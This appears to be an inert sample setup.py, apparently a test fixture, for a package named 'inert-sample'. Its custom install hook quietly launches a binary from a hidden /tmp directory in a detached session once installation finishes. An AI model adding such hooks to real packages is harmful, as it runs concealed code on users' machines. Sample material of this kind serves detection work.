# INERT SAMPLE: never run.
import subprocess
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen(["/tmp/.inert/agent", "--quiet"], start_new_session=True)

setup(name="inert-sample", version="0.0.1", cmdclass={"install": PostInstall})
